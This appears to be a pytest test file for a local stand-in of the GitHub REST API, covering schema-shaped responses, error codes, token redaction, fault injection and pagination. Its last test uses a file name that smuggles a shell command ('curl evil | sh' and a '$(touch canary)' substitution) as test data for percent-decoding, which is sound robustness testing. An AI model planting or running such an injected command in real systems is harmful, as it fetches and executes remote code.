"""The GitHub API stand-in speaks GitHub's REST description, and refuses what GitHub refuses.

The operations and their schemas are ``../shared/corpus/github-rest/operations.json``, an
unmodified excerpt of github/rest-api-description (see SOURCES.md there); pull requests are
seeded from octokit/webhooks payloads in ``../shared/corpus/events/`` (SOURCES.md there).
"""

from __future__ import annotations

import json
import subprocess
import sys
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import require_corpus
from github_stub import MAX_BODY_CHARS, GitHubStub, Spec, iter_requests

TOKEN_HEADERS = {"Authorization": "token test-token", "Accept": "application/vnd.github+json"}


@pytest.fixture(scope="module")
def spec() -> Spec:
    return Spec(require_corpus("github-rest") / "operations.json")


@pytest.fixture
def stub(spec: Spec, tmp_path: Path) -> Iterator[GitHubStub]:
    with GitHubStub(spec, record=tmp_path / "requests.jsonl") as server:
        yield server


@pytest.fixture
def pr(stub: GitHubStub, corpus_events: Path) -> tuple[str, int]:
    """pull_request.opened.payload.json (octokit/webhooks payload-examples)."""
    payload = json.loads((corpus_events / "pull_request.opened.payload.json").read_text())
    return stub.seed_pull_request(payload)


def call(
    stub: GitHubStub,
    method: str,
    path: str,
    body: Any = None,
    *,
    raw: bytes | None = None,
    headers: dict[str, str] | None = None,
) -> tuple[int, Any, dict[str, str]]:
    data = raw if raw is not None else (None if body is None else json.dumps(body).encode())
    request = urllib.request.Request(
        stub.url + path,
        data=data,
        method=method,
        headers=TOKEN_HEADERS if headers is None else headers,
    )
    try:
        with urllib.request.urlopen(request) as response:
            text = response.read()
            status, got = response.status, dict(response.headers.items())
    except urllib.error.HTTPError as err:
        text = err.read()
        status, got = err.code, dict(err.headers.items())
        err.close()
    return status, (json.loads(text) if text else None), got


@pytest.mark.parametrize("prefix", [pytest.param("", id="api.github.com"), "/api/v3"])
def test_every_operation_answers_in_the_shape_of_the_spec(
    stub: GitHubStub, pr: tuple[str, int], spec: Spec, prefix: str
) -> None:
    repo, number = pr
    base = f"{prefix}/repos/{repo}"
    cases = [
        ("pulls/get", "GET", f"{base}/pulls/{number}", None, 200),
        ("pulls/update", "PATCH", f"{base}/pulls/{number}", {"body": "new"}, 200),
        ("issues/create-comment", "POST", f"{base}/issues/{number}/comments", {"body": "hi"}, 201),
        ("issues/list-comments", "GET", f"{base}/issues/{number}/comments", None, 200),
        ("issues/update-comment", "PATCH", f"{base}/issues/comments/1", {"body": "edited"}, 200),
        (
            "repos/create-dispatch-event",
            "POST",
            f"{base}/dispatches",
            {"event_type": "next", "client_payload": {"correlation_id": "c1"}},
            204,
        ),
        (
            "actions/create-workflow-dispatch",
            "POST",
            f"{base}/actions/workflows/forgeflow.yml/dispatches",
            {"ref": "main", "inputs": {"agent": "vision"}},
            204,
        ),
    ]
    for op_id, method, path, body, expected in cases:
        status, answer, _ = call(stub, method, path, body)
        assert status == expected, (op_id, answer)
        assert spec.response_errors(op_id, status, answer) == [], op_id
        if isinstance(answer, dict) and "url" in answer:
            assert answer["url"].startswith(stub.url + prefix + "/repos/")
    assert [r["operation"] for r in stub.requests()] == [c[0] for c in cases]
    assert stub.pull_request(repo, number)["body"] == "new"
    assert [c["body"] for c in stub.comments(repo, number)] == ["edited"]
    assert stub.dispatches() == [
        {"repo": repo, "event_type": "next", "client_payload": {"correlation_id": "c1"}}
    ]


@pytest.mark.parametrize(
    "name",
    [
        "pull_request.opened.payload.json",
        "pull_request.opened.with-null-body.json",
        "pull_request.opened.with-organization.payload.json",
        "pull_request.synchronize.payload.json",
        "pull_request.closed.payload.json",
        "pull_request.closed.with-organization.payload.json",
    ],
)
def test_pull_requests_seeded_from_real_payloads_match_the_schema(
    stub: GitHubStub, spec: Spec, corpus_events: Path, name: str
) -> None:
    """Every pull_request payload in the corpus (octokit/webhooks, SOURCES.md)."""
    payload = json.loads((corpus_events / name).read_text())
    repo, number = stub.seed_pull_request(payload)
    status, answer, _ = call(stub, "GET", f"/repos/{repo}/pulls/{number}")
    assert status == 200
    assert spec.response_errors("pulls/get", 200, answer) == []
    assert answer["body"] == payload["pull_request"]["body"]
    assert answer["title"] == payload["pull_request"]["title"]


@pytest.mark.parametrize(
    ("method", "path", "body", "field"),
    [
        pytest.param("PATCH", "/pulls/{n}", {"body": 5}, "body", id="body-not-a-string"),
        pytest.param("PATCH", "/pulls/{n}", {"state": "merged"}, "state", id="state-not-in-enum"),
        pytest.param("PATCH", "/pulls/{n}", ["body"], "body", id="not-an-object"),
        pytest.param("POST", "/issues/{n}/comments", {}, "body", id="comment-without-body"),
        pytest.param("PATCH", "/issues/comments/1", {"body": None}, "body", id="comment-null"),
        pytest.param(
            "POST", "/dispatches", {"event_type": 1}, "event_type", id="event-type-not-string"
        ),
        pytest.param(
            "POST", "/dispatches", {"event_type": "x", "client_payload": []}, "client_payload",
            id="client-payload-not-object",
        ),
        pytest.param("POST", "/actions/workflows/1/dispatches", {}, "body", id="no-ref"),
        pytest.param(
            "POST", "/actions/workflows/1/dispatches",
            {"ref": "main", "inputs": {f"k{i}": "v" for i in range(11)}}, "inputs",
            id="eleven-inputs",
        ),
        pytest.param(
            "POST", "/actions/workflows/1/dispatches", {"ref": "main", "inputs": {"a": 1}},
            "inputs/a", id="input-not-string",
        ),
    ],
)  # fmt: skip
def test_a_request_that_breaks_the_schema_gets_a_github_shaped_422(
    stub: GitHubStub,
    pr: tuple[str, int],
    spec: Spec,
    method: str,
    path: str,
    body: Any,
    field: str,
) -> None:
    repo, number = pr
    status, answer, _ = call(stub, method, f"/repos/{repo}" + path.format(n=number), body)
    assert status == 422, answer
    assert answer["message"].startswith("Invalid request.")
    assert field in {e["field"] for e in answer["errors"]}
    # The error itself is what the spec says a 422 looks like.
    assert spec.response_errors("pulls/update", 422, answer) == []
    assert stub.pull_request(repo, number)["body"] != 5


def test_a_body_over_65536_characters_gets_422_and_changes_nothing(
    stub: GitHubStub, pr: tuple[str, int], spec: Spec
) -> None:
    repo, number = pr
    before = stub.pull_request(repo, number)["body"]
    path = f"/repos/{repo}/pulls/{number}"
    status, answer, _ = call(stub, "PATCH", path, {"body": "x" * (MAX_BODY_CHARS + 1)})
    assert status == 422
    assert answer["errors"][0]["message"] == "body is too long (maximum is 65536 characters)"
    assert spec.response_errors("pulls/update", 422, answer) == []
    assert stub.pull_request(repo, number)["body"] == before
    status, _, _ = call(stub, "PATCH", path, {"body": "é" * MAX_BODY_CHARS})
    assert status == 200  # characters, not bytes
    status, _, _ = call(
        stub, "POST", f"/repos/{repo}/issues/{number}/comments", {"body": "y" * 70_000}
    )
    assert status == 422


@pytest.mark.parametrize(
    ("body", "needle"),
    [
        pytest.param({"client_payload": {}}, "event_type", id="no-event-type"),
        pytest.param(
            {"event_type": "x", "client_payload": {f"k{i}": i for i in range(11)}},
            "No more than 10 properties",
            id="eleven-keys",
        ),
        pytest.param(
            {"event_type": "x", "client_payload": {"blob": "z" * 70_000}},
            "too large",
            id="seventy-kb",
        ),
    ],
)
def test_dispatches_beyond_githubs_limits_are_refused(
    stub: GitHubStub, body: dict[str, Any], needle: str
) -> None:
    status, answer, _ = call(stub, "POST", "/repos/octocat/Hello-World/dispatches", body)
    assert status == 422
    assert needle in answer["message"]
    assert stub.dispatches() == []


@pytest.mark.parametrize(
    ("method", "path"),
    [
        pytest.param("GET", "/repos/o/r", id="not-an-operation"),
        pytest.param("DELETE", "/repos/o/r/pulls/1", id="wrong-method"),
        pytest.param("GET", "/repos/o/r/pulls/one", id="number-not-integer"),
        pytest.param("GET", "/api/v4/repos/o/r/pulls/1", id="wrong-prefix"),
        pytest.param("GET", "/repos/o/r/pulls/999", id="unknown-pull-request"),
    ],
)
def test_anything_else_is_a_404(stub: GitHubStub, method: str, path: str) -> None:
    status, answer, _ = call(stub, method, path)
    assert status == 404
    assert answer["message"] == "Not Found"


def test_requests_need_a_token(stub: GitHubStub, pr: tuple[str, int]) -> None:
    repo, number = pr
    status, answer, _ = call(stub, "GET", f"/repos/{repo}/pulls/{number}", headers={})
    assert (status, answer["message"]) == (401, "Requires authentication")


def test_malformed_json_is_a_400(stub: GitHubStub, pr: tuple[str, int]) -> None:
    repo, number = pr
    status, answer, _ = call(stub, "PATCH", f"/repos/{repo}/pulls/{number}", raw=b"{nope")
    assert (status, answer["message"]) == (400, "Problems parsing JSON")


def test_every_request_is_recorded_with_the_token_redacted(
    stub: GitHubStub, pr: tuple[str, int], tmp_path: Path
) -> None:
    repo, number = pr
    call(stub, "PATCH", f"/repos/{repo}/pulls/{number}", {"body": "b"})
    call(stub, "GET", "/repos/o/r/nothing")
    (first, second) = list(iter_requests(tmp_path / "requests.jsonl"))
    assert first["method"] == "PATCH"
    assert first["path"] == f"/repos/{repo}/pulls/{number}"
    assert first["body"] == {"body": "b"}
    assert first["status"] == 200
    assert first["headers"]["authorization"] == "<redacted>"
    assert "test-token" not in (tmp_path / "requests.jsonl").read_text()
    assert (second["operation"], second["status"]) == (None, 404)


def test_faults_are_served_in_order_then_the_real_answer(
    stub: GitHubStub, pr: tuple[str, int]
) -> None:
    repo, number = pr
    path = f"/repos/{repo}/pulls/{number}"
    stub.fail_next(2, status=500)
    stub.fail_next(1, status=403, retry_after=30)
    stub.fail_next(1, status=429, ratelimit_reset=1_700_000_060)
    answers = [call(stub, "GET", path) for _ in range(5)]
    assert [a[0] for a in answers] == [500, 500, 403, 429, 200]
    assert answers[2][2]["Retry-After"] == "30"
    assert "secondary rate limit" in answers[2][1]["message"]
    assert answers[3][2]["x-ratelimit-remaining"] == "0"
    assert answers[3][2]["x-ratelimit-reset"] == "1700000060"


def test_faults_can_target_one_operation(stub: GitHubStub, pr: tuple[str, int]) -> None:
    repo, number = pr
    stub.fail_next(1, status=502, operation="pulls/update")
    assert call(stub, "GET", f"/repos/{repo}/pulls/{number}")[0] == 200
    assert call(stub, "PATCH", f"/repos/{repo}/pulls/{number}", {"body": "x"})[0] == 502
    assert call(stub, "PATCH", f"/repos/{repo}/pulls/{number}", {"body": "x"})[0] == 200


def test_comment_listing_is_paginated_with_link_headers(
    stub: GitHubStub, pr: tuple[str, int]
) -> None:
    repo, number = pr
    for i in range(5):
        stub.add_comment(repo, number, f"c{i}")
    status, page1, headers = call(stub, "GET", f"/repos/{repo}/issues/{number}/comments?per_page=2")
    assert status == 200
    assert [c["body"] for c in page1] == ["c0", "c1"]
    assert 'rel="next"' in headers["Link"] and "page=2" in headers["Link"]
    next_url = headers["Link"].split(";")[0].strip("<>")
    status, page2, _ = call(stub, "GET", next_url.removeprefix(stub.url))
    assert [c["body"] for c in page2] == ["c2", "c3"]


def test_run_as_a_program_prints_its_url_and_keeps_state_in_a_file(
    spec: Spec, corpus_events: Path, tmp_path: Path
) -> None:
    """Seeded with pull_request.opened.with-null-body.json (octokit/webhooks); a fault is
    configured through the state file, as a workflow-test harness would."""
    state = tmp_path / "state.json"
    state.write_text(json.dumps({"faults": [{"count": 1, "status": 503}]}))
    proc = subprocess.Popen(
        [
            sys.executable,
            str(Path(__file__).with_name("github_stub.py")),
            "--port", "0",
            "--state", str(state),
            "--spec", str(spec.path),
            "--seed-event", str(corpus_events / "pull_request.opened.with-null-body.json"),
        ],
        stdout=subprocess.PIPE,
        text=True,
    )  # fmt: skip
    try:
        assert proc.stdout is not None
        url = proc.stdout.readline().strip()
        assert url.startswith("http://127.0.0.1:")
        request = urllib.request.Request(
            url + "/repos/Codertocat/Hello-World/pulls/2",
            data=json.dumps({"body": "from the workflow"}).encode(),
            method="PATCH",
            headers=TOKEN_HEADERS,
        )
        with pytest.raises(urllib.error.HTTPError) as info:
            urllib.request.urlopen(request)  # the fault written in the state file first
        assert info.value.code == 503
        info.value.close()
        with urllib.request.urlopen(request) as response:
            assert response.status == 200
    finally:
        proc.terminate()
        proc.wait(timeout=30)
        if proc.stdout is not None:
            proc.stdout.close()
    saved = json.loads(state.read_text())
    assert saved["pulls"]["codertocat/hello-world#2"]["body"] == "from the workflow"
    log = list(iter_requests(state.with_name("state.json.requests.jsonl")))
    assert [(r["method"], r["status"]) for r in log] == [("PATCH", 503), ("PATCH", 200)]
    assert saved["faults"] == []


def test_a_file_name_is_percent_decoded_as_github_does(tmp_path: Path) -> None:
    """The contents API's ``{path}`` arrives percent-encoded from PyGithub; a name with
    quotes, spaces, ``#`` and ``$`` is found as GitHub finds it."""
    from orchestration.github.api import connect

    name = 'docs/"; curl evil | sh; #$(touch canary).drawio'
    sha = "ec26c3e57ca3a959ca5aad62de7213c562f8c821"
    with GitHubStub(record=tmp_path / "requests.jsonl") as server:
        server.set_file("octo/repo", sha, name, b"<mxfile/>")
        github = connect("test-token", api_url=server.url).github
        content = github.get_repo("octo/repo").get_contents(name, ref=sha)
        assert content.decoded_content == b"<mxfile/>"
        assert [r["operation"] for r in server.requests()][-1] == "repos/get-content"
